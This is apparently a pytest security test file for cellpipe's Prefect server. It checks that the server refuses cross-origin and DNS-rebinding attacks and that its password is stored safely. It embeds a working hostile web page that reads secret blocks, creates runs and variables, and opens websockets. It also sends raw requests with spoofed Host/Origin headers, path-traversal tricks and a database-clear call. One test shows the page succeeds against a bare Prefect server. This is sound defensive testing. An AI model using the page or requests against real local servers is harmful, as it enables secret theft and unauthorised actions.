"""An evil page in a real browser, and raw requests, against the server of ``cellpipe serve``.

The page comes from another port of this machine, and under a name of its own that leads to
127.0.0.1. It tries to read a Secret block, to list folders and to start a nightly run. Against a
bare ``prefect server start`` the same page succeeds, which shows that it tries in earnest.
"""

from __future__ import annotations

import base64
import http.client
import itertools
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("playwright")
from playwright.sync_api import Browser, Page, sync_playwright

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("evil page")]
SECRET = "a-value-that-lies-in-a-block"  # noqa: S105 - made up
MARKS = (SECRET, "process-batch", "watched", "nightly", "a-variable", "not-for-others")
CLEAN = {k: v for k, v in os.environ.items() if not k.startswith(("PREFECT_", "CELLPIPE_"))}
Answer = tuple[int, str]


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def until(holds: Callable[[], bool], seconds: float, what: str) -> None:
    deadline = time.monotonic() + seconds
    while not holds():
        if time.monotonic() > deadline:
            pytest.fail(f"{what}: not in {seconds} s")
        time.sleep(0.2)


class Target:
    """A Prefect server with something to steal, and what is known of it with its password."""

    def __init__(self, port: int, process: subprocess.Popen[bytes], password: str) -> None:
        self.port = port
        self.process = process
        self.password = password
        self.url = f"http://127.0.0.1:{port}"

    def ask(self, path: str, body: object = None, *, method: str = "", **headers: str) -> Answer:
        """Send a request with headers as they are given; '' leaves one out."""
        given = {"Host": f"127.0.0.1:{self.port}", "Content-Type": "application/json"}
        given |= {name.replace("_", "-"): value for name, value in headers.items()}
        content = None if body is None else json.dumps(body).encode()
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=60)
        connection.putrequest(
            method or ("GET" if body is None else "POST"), path, skip_host=True,
            skip_accept_encoding=True,
        )  # fmt: skip
        for name, value in given.items():
            if value:
                connection.putheader(name, value)
        if content is not None:
            connection.putheader("Content-Length", str(len(content)))
        connection.endheaders(content)
        answer = connection.getresponse()
        text = ""
        with suppress(ConnectionResetError):  # as of a request without Host, which is none
            text = answer.read().decode("utf-8", "replace")
        connection.close()
        return answer.status, text

    @property
    def login(self) -> str:
        return f"Basic {base64.b64encode(self.password.encode()).decode()}"

    def call(self, path: str, body: object = None, *, method: str = "") -> Any:
        """Send a request as somebody who may."""
        more = {"Authorization": self.login} if self.password else {}
        for _ in range(20):
            status, text = self.ask(f"/api/{path}", body, method=method, **more)
            if status != 503:  # its database is busy
                break
            time.sleep(0.5)
        assert status < 300, text
        return json.loads(text) if text else None

    def state(self) -> dict[str, object]:
        """Return all that an intruder could have changed."""
        wanted = ("variables", "block_documents", "deployments", "work_pools", "automations",
                  "concurrency_limits", "artifacts", "flows")  # fmt: skip
        found = {what: self.call(f"{what}/filter", {}) for what in wanted}
        runs = self.call("flow_runs/filter", {})
        found["flow_runs"] = [run for run in runs if not run["auto_scheduled"]]
        changing = {"updated", "last_polled", "status"}  # of the runner's looks, and the schedule's
        return {
            what: sorted(
                json.dumps({k: v for k, v in one.items() if k not in changing}) for one in rows
            )
            for what, rows in found.items()
        }

    def fill(self) -> None:
        """Put something there that is worth stealing."""
        self.call("variables/", {"name": "a_variable", "value": "not-for-others"})
        kind = self.call("block_types/slug/secret")
        schema = self.call("block_schemas/filter", {"block_schemas": {
            "block_type_id": {"any_": [kind["id"]]}}})[0]  # fmt: skip
        self.call("block_documents/", {
            "name": "lab-key", "data": {"value": SECRET}, "block_schema_id": schema["id"],
            "block_type_id": kind["id"]})  # fmt: skip

    def end(self) -> None:
        self.process.send_signal(signal.SIGINT)
        self.process.wait(timeout=90)


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("served")
    (folder / "lab").mkdir()
    return folder


@pytest.fixture(scope="module")
def served(home: Path) -> Iterator[Target]:
    """``cellpipe serve`` with its defaults, all but the port."""
    port = free_port()
    (home / "cellpipe.toml").write_text(
        f"[[lab]]\nname = 'ours'\nfolder = 'lab'\nresults = 'out'\n[server]\nport = {port}\n"
    )
    with (home / "said").open("wb") as said:
        process = subprocess.Popen(
            [sys.executable, "-m", "cellpipe", "serve"], cwd=home, env=CLEAN, stdout=said,
            stderr=said,
        )  # fmt: skip
    log = home / "prefect" / "flows.log"
    until(lambda: log.is_file() and "ready" in log.read_text(), 240, "the start")
    target = Target(port, process, (home / "prefect" / "password.txt").read_text().strip())
    target.fill()
    yield target
    target.end()


@pytest.fixture(scope="module")
def bare(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    """A server as Prefect itself starts it."""
    port, folder = free_port(), tmp_path_factory.mktemp("bare")
    process = subprocess.Popen(
        [sys.executable, "-m", "prefect", "server", "start", "--port", str(port)],
        env=CLEAN | {"PREFECT_HOME": str(folder), "PREFECT_SERVER_ANALYTICS_ENABLED": "false"},
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    target = Target(port, process, "")

    def is_up() -> bool:
        try:
            return target.ask("/api/health")[0] == 200
        except OSError:
            return False

    until(is_up, 240, "the start")
    target.fill()
    flow = target.call("flows/", {"name": "nightly"})
    target.call("deployments/", {"name": "nightly", "flow_id": flow["id"]})
    yield target
    target.end()


PAGE = """<!doctype html><title>evil</title><script>
const found = {};
const api = (base, path) => base + "/api/" + path;
const json = {"Content-Type": "application/json"};
async function note(name, doing) {
  try { found[name] = String(await doing()); } catch (error) { found[name] = "error " + error; }
}
function read(base, path, body, options) {
  return async () => {
    const given = body === undefined ? {} : {method: "POST", body};
    const answer = await fetch(api(base, path), {...given, ...options});
    return answer.type + " " + answer.status + " " + await answer.text();
  };
}
function element(name, fields, parent) {
  return () => new Promise(done => {
    const one = Object.assign(document.createElement(name), fields);
    one.onload = () => done("load"); one.onerror = () => done("no load");
    setTimeout(() => done("nothing"), 4000);
    (parent || document.body).append(one);
  });
}
function form(base, path, enctype, name, value, number) {
  return () => new Promise(done => {
    const frame = document.createElement("iframe"); frame.name = "f" + number;
    const one = document.createElement("form");
    Object.assign(one, {method: "POST", action: api(base, path), enctype, target: frame.name});
    const input = document.createElement("textarea"); input.name = name; input.value = value;
    one.append(input); document.body.append(frame, one); one.submit();
    setTimeout(() => {
      try { done(frame.contentDocument.body.innerText); } catch (error) { done("hidden"); }
    }, 2500);
  });
}
function socket(base, path, protocols) {
  return () => new Promise(done => {
    const one = new WebSocket(api(base.replace("http", "ws"), path), protocols);
    let said = "";
    one.onopen = () => { said += "open ";
      one.send(JSON.stringify({type: "auth", token: null}));
      one.send(JSON.stringify({type: "filter", filter: {
        occurred: {since: "2020-01-01T00:00:00Z"}, event: {}, resource: {}, order: "ASC"}})); };
    one.onmessage = event => { said += event.data; };
    one.onclose = event => done(said + "closed " + event.code);
    setTimeout(() => { done(said + "still open"); one.close(); }, 4000);
  });
}
async function attack(base, ids) {
  const secrets = JSON.stringify({include_secrets: true});
  const run = JSON.stringify({name: "evil", parameters: {labs: [{folder: "/", results: "/tmp"}]}});
  const variable = n => JSON.stringify({name: "evil_" + n, value: "x"});
  const create = "deployments/" + ids.deployment + "/create_flow_run";
  const plain = {"Content-Type": "text/plain"};
  const wrong = {...json, Authorization: "Basic " + btoa("cellpipe:wrong")};
  const tries = {
    "read blocks": read(base, "block_documents/filter", secrets, {headers: json}),
    "read blocks, a guess": read(base, "block_documents/filter", secrets, {headers: wrong}),
    "read blocks, with credentials": read(base, "block_documents/filter", secrets,
      {headers: json, credentials: "include"}),
    "read blocks, plain": read(base, "block_documents/filter", secrets, {headers: plain}),
    "read blocks, no type": read(base, "block_documents/filter", new Blob([secrets])),
    "read a block": read(base, "block_documents/" + ids.block + "?include_secrets=true"),
    "list runs": read(base, "flow_runs/filter", "{}", {headers: json}),
    "list deployments": read(base, "deployments/filter", "{}", {headers: json}),
    "list variables": read(base, "variables/filter", "{}", {headers: json}),
    "settings": read(base, "admin/settings"),
    "run": read(base, create, run, {headers: json}),
    "run, plain": read(base, create, run, {mode: "no-cors", headers: plain}),
    "run, no type": read(base, create, new Blob([run]), {mode: "no-cors"}),
    "run, kept alive": read(base, create, new Blob([run]), {mode: "no-cors", keepalive: true}),
    "variable": read(base, "variables/", variable(1), {headers: json}),
    "variable, plain": read(base, "variables/", variable(2), {mode: "no-cors", headers: plain}),
    "variable, no type": read(base, "variables/", new Blob([variable(3)]), {mode: "no-cors"}),
    "beacon": async () => navigator.sendBeacon(api(base, "variables/"), variable(4)),
    "beacon, no type": async () =>
      navigator.sendBeacon(api(base, "variables/"), new Blob([variable(5)])),
    "delete": read(base, "variables/name/a_variable", undefined, {method: "DELETE"}),
    "pause": read(base, "deployments/" + ids.deployment + "/pause_deployment", "", {}),
    "change": read(base, "variables/name/a_variable", variable(6),
      {method: "PATCH", headers: json}),
    "form, plain": form(base, "variables/", "text/plain", '{"name": "evil_7", "value": "', '"}', 1),
    "form": form(base, "variables/", "application/x-www-form-urlencoded", "name", "evil_8", 2),
    "form, parts": form(base, "variables/", "multipart/form-data", "name", "evil_9", 3),
    "image": element("img", {src: api(base, "flows/count")}),
    "script": element("script", {src: api(base, "block_documents/filter")}),
    "module": () => import(api(base, "variables/name/a_variable")),
    "style": element("link", {rel: "stylesheet", href: api(base, "variables/name/a_variable")}),
    "object": element("object", {data: api(base, "variables/name/a_variable")}),
    "events": () => new Promise(done => {
      const one = new EventSource(api(base, "events/out"));
      one.onopen = () => done("open"); one.onerror = () => done("no answer"); }),
    "socket out": socket(base, "events/out", ["prefect"]),
    "socket out, old": socket(base, "events/out", []),
    "socket in": socket(base, "events/in", ["prefect"]),
    "socket logs": socket(base, "logs/out", ["prefect"]),
    "socket tasks": socket(base, "task_runs/subscriptions/scheduled", ["prefect"]),
    "frame": element("iframe", {src: base + "/", name: "framed"}),
    "script of the page": element("script", {src: base + "/ui-settings"}),
  };
  await Promise.all(Object.entries(tries).map(([name, doing]) => note(name, doing)));
  return found;
}
</script><body>"""


class Evil(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(PAGE.encode())

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture(scope="module")
def evil() -> Iterator[int]:
    with ThreadingHTTPServer(("127.0.0.1", 0), Evil) as one:
        threading.Thread(target=one.serve_forever, daemon=True).start()
        yield one.server_port
        one.shutdown()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    found = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))),
                 None)  # fmt: skip
    if found is None:
        pytest.skip("no Chromium on this machine")
    arguments = ["--disable-dev-shm-usage", "--host-resolver-rules=MAP evil.example 127.0.0.1",
                 "--disable-features=LocalNetworkAccessChecks",  # no other browser helps, either
                 *(["--no-sandbox"] if os.geteuid() == 0 else [])]  # fmt: skip
    with sync_playwright() as started:
        opened = started.chromium.launch(executable_path=found, args=arguments)
        yield opened
        opened.close()


def attack(page: Page, target: Target, base: str) -> dict[str, str]:
    """Let the page do all it can, and tell what it saw; it even knows the ids."""
    deployments = target.call("deployments/filter", {})
    ids = {
        "deployment": next(each["id"] for each in deployments if each["name"] == "nightly"),
        "block": target.call("block_documents/filter", {})[0]["id"],
    }
    found: dict[str, str] = page.evaluate("([base, ids]) => attack(base, ids)", [base, ids])
    assert len(found) > 35
    return found


def stolen(found: dict[str, str]) -> list[str]:
    return [name for name, text in found.items() if any(mark in text for mark in MARKS)]


def test_against_a_bare_server_the_page_succeeds(bare: Target, evil: int, browser: Browser) -> None:
    before = bare.state()["flow_runs"]
    seen: set[str] = set()
    for _ in range(5):  # a bare server that is busy refuses a request or two with 503
        page = browser.new_page()
        page.goto(f"http://127.0.0.1:{evil}/")
        found = attack(page, bare, bare.url)
        page.close()
        seen |= {name for name in stolen(found) if name != "read blocks" or SECRET in found[name]}
        after = bare.state()
        has_run = after["flow_runs"] != before
        if has_run and len(seen) > 2 and "evil_1" in str(after["variables"]):
            break
    assert {"read blocks", "list variables", "list deployments"} <= seen
    assert has_run, {name: text for name, text in found.items() if name.startswith("run")}
    assert "evil_1" in str(after["variables"])


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
@pytest.mark.parametrize("page_name", ["127.0.0.1", "localhost", "evil.example"])
def test_a_page_of_another_port_gets_nothing_and_changes_nothing(
    served: Target, evil: int, browser: Browser, name: str, page_name: str
) -> None:
    before = served.state()
    page = browser.new_page()
    page.goto(f"http://{page_name}:{evil}/")
    found = attack(page, served, f"http://{name}:{served.port}")
    framed = page.frame("framed")
    assert framed is None or not framed.url.startswith("http")  # Chromium's own page of errors
    page.close()
    assert stolen(found) == []
    read = {name: text for name, text in found.items() if " 2" in text or "open" in text}
    assert read == {}
    loaded = {name for name, text in found.items() if text == "load"}
    assert loaded <= {"frame", "object"}  # the browser's page of errors, which loads, too
    assert served.state() == before


def test_a_page_whose_name_is_made_to_lead_here_gets_nothing(
    served: Target, browser: Browser
) -> None:
    before = served.state()
    page = browser.new_page()
    base = f"http://evil.example:{served.port}"
    page.route(
        f"{base}/evil.html", lambda route: route.fulfill(body=PAGE, content_type="text/html")
    )
    page.goto(f"{base}/evil.html")  # it came from elsewhere, before its name led here
    found = attack(page, served, base)
    assert "does not belong to this server" in found["read blocks"]  # it reads the refusal only
    assert stolen(found) == []
    statuses = {text.split()[1] for text in found.values() if text.startswith("basic ")}
    assert statuses == {"403"}
    assert not any("open" in text for name, text in found.items() if "socket" in name)
    page.goto(f"{base}/")
    assert "does not belong to this server" in page.inner_text("body")
    page.close()
    assert served.state() == before


def test_the_page_asks_for_the_password_once_and_speaks_to_nobody_else(
    served: Target, browser: Browser
) -> None:
    context = browser.new_context()
    page = context.new_page()
    elsewhere: list[str] = []
    context.on("response", lambda answer: elsewhere.append(answer.url)
               if not answer.url.startswith(served.url) else None)  # fmt: skip
    page.goto(served.url)
    field = page.wait_for_selector("input[type=password]", timeout=30_000)
    assert field is not None
    assert "login" in page.url
    assert "ours" not in page.inner_text("body")
    field.fill("cellpipe:wrong")
    field.press("Enter")
    page.wait_for_timeout(1500)
    assert "login" in page.url
    field.fill(served.password)
    field.press("Enter")
    page.wait_for_url("**/dashboard**", timeout=30_000)
    again = context.new_page()
    again.goto(f"{served.url}/v2/deployments")
    again.get_by_text("watched").first.wait_for(timeout=30_000)
    assert elsewhere == []
    context.close()


HOSTS = ("127.0.0.1:{}", "localhost:{}", "evil.example:{}", "0.0.0.0:{}", "")
ORIGINS = ("", "http://127.0.0.1:{}", "http://127.0.0.1:9", "null")
TYPES = ("application/json", "text/plain", "")
PATHS = {
    "/api/block_documents/filter": {"include_secrets": True},
    "/api/variables/": {"name": "evil_raw", "value": "x"},
    "/api/variables/name/a_variable": {"value": "evil"},
    "/api/deployments/{}/create_flow_run": {"parameters": {"labs": ["ours"]}},
    "/api/admin/database/clear": {"confirm": True},
    "/api/flow_runs/filter": {},
    "/api/openapi.json": None,
    "//api/variables/": {"name": "evil_raw", "value": "x"},
    "/api/../api/variables/": {"name": "evil_raw", "value": "x"},
    "/API/variables/": {"name": "evil_raw", "value": "x"},
    "/api/health/../variables/": {"name": "evil_raw", "value": "x"},
    "http://127.0.0.1/api/variables/": {"name": "evil_raw", "value": "x"},
}


def test_raw_requests_without_the_password_or_with_a_wrong_header_do_nothing(
    served: Target,
) -> None:
    before = served.state()
    nights = served.call("deployments/name/nightly/nightly")["id"]
    wrong = f"Basic {base64.b64encode(b'cellpipe:').decode()}"
    count = 0
    for (path, body), method, host, origin, kind, login in itertools.product(
        PATHS.items(), ("GET", "POST", "PATCH", "DELETE"), HOSTS, ORIGINS, TYPES,
        ("", wrong, served.login),
    ):  # fmt: skip
        right = host in HOSTS[:2] and origin in {"", "http://127.0.0.1:{}"}
        right = right and (not origin or host == HOSTS[0])
        if login == served.login and right and (kind == TYPES[0] or body is None):
            continue  # somebody who may
        status, text = served.ask(
            path.format(nights), body, method=method, Host=host.format(served.port),
            Origin=origin.format(served.port), Content_Type=kind, Authorization=login,
        )  # fmt: skip
        count += 1
        said = (path, method, host, origin, kind, bool(login), status, text[:200])
        assert not any(mark in text for mark in MARKS), said
        is_page = right and status in {200, 405} and not path.lower().startswith("/api")
        assert status >= 400 or is_page or (path.startswith("/API") and method == "GET"), said
    assert count > 5000
    assert served.state() == before


def test_an_answer_to_another_origin_is_never_allowed(served: Target) -> None:
    for origin in ("http://127.0.0.1:9", "http://localhost:9", "null", "http://evil.example"):
        connection = http.client.HTTPConnection("127.0.0.1", served.port, timeout=30)
        for method in ("OPTIONS", "GET"):
            connection.request(method, "/api/health", headers={
                "Origin": origin, "Access-Control-Request-Method": "POST",
                "Access-Control-Request-Headers": "authorization"})  # fmt: skip
            answer = connection.getresponse()
            answer.read()
            assert answer.status == 403
            assert answer.headers["Access-Control-Allow-Origin"] is None
        connection.close()


# --- flows know names -----------------------------------------------------------------------------


def ended(served: Target, run: str) -> dict[str, Any]:
    found: dict[str, Any] = {}

    def is_over() -> bool:
        found.update(served.call(f"flow_runs/{run}"))
        return found["state_type"] in {"COMPLETED", "FAILED", "CRASHED", "CANCELLED"}

    until(is_over, 90, "the end of a run")
    return found


def asked(served: Target, name: str, parameters: object, **more: object) -> str:
    deployment = served.call(f"deployments/name/{name}")["id"]
    body = {"parameters": parameters, "state": {"type": "SCHEDULED"}, **more}
    return str(served.call(f"deployments/{deployment}/create_flow_run", body)["id"])


@pytest.mark.parametrize(
    ("name", "parameters"),
    [
        ("nightly/nightly", {"labs": ["ours"], "settings": "{0}/cellpipe.toml"}),
        ("nightly/nightly", {"labs": [{"folder": "{0}/lab", "results": "{0}/else"}]}),
        ("nightly/nightly", {"labs": ["{0}/lab"]}),
        ("nightly/nightly", {"labs": ["../lab"]}),
        ("process-batch/watched", {"folder": "{0}/lab", "out": "{0}/else", "batch": "b1"}),
        ("process-batch/watched", {"lab": "ours", "batch": "b1", "out": "{0}/else"}),
        ("process-batch/watched", {"lab": "{0}/lab", "batch": "b1"}),
    ],
)
def test_even_with_the_password_a_run_takes_no_folder(
    served: Target, home: Path, name: str, parameters: dict[str, object]
) -> None:
    there = sorted(path.name for path in home.iterdir())
    given = json.loads(json.dumps(parameters).replace("{0}", home.as_posix()))
    run = ended(served, asked(served, name, given, enforce_parameter_schema=False))
    assert run["state_type"] == "FAILED"
    message = run["state"]["message"]
    assert "parameters" in message or "expected one of 'ours'" in message
    assert sorted(path.name for path in home.iterdir()) == there


def test_a_night_is_asked_for_by_name(served: Target, home: Path) -> None:
    described = served.call("deployments/filter", {})
    assert {each["name"]: each["parameters"] for each in described} == {
        "nightly": {"labs": ["ours"]}, "watched": {},
    }  # fmt: skip
    run = ended(served, asked(served, "nightly/nightly", {"labs": ["ours"]}))
    assert run["state_type"] == "COMPLETED", run["state"]
    assert run["parameters"] == {"labs": ["ours"]}
    assert (home / "out" / "digest.txt").is_file()


def test_the_password_is_in_its_file_and_nowhere_else(served: Target, home: Path) -> None:
    path = home / "prefect" / "password.txt"
    assert path.stat().st_mode & 0o777 == 0o600
    assert path.parent.stat().st_mode & 0o777 == 0o700
    said = (home / "said").read_text()
    assert said.count(f"{path}") == 2  # on the terminal, and in the log
    assert "copy the whole line" in said
    secret = served.password.partition(":")[2].encode()
    for each in home.rglob("*"):
        if each.is_file() and each != path:
            assert secret not in each.read_bytes(), each
    assert served.login.encode() not in (home / "prefect" / "prefect.db").read_bytes()
    for arguments in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            assert secret not in arguments.read_bytes()
        except OSError:  # it ended
            continue


def test_the_commands_find_the_password_themselves(served: Target, home: Path) -> None:
    script = (
        "import os, sys\nfrom pathlib import Path\n"
        "from cellpipe.config.settings import read_settings\n"
        "from cellpipe.service.server_password import set_client_password\n"
        "from cellpipe.core.checkout import flow_module\n"
        "set_client_password(read_settings(Path('cellpipe.toml')).server, Path('prefect'))\n"
        "print(flow_module('blocks').read_block('lab-key'))"
    )
    done = subprocess.run(
        [sys.executable, "-c", script], cwd=home, capture_output=True, text=True, check=False,
        env=CLEAN | {"PREFECT_API_URL": f"{served.url}/api"}, timeout=120,
    )  # fmt: skip
    assert done.stdout.strip() == SECRET, done.stderr
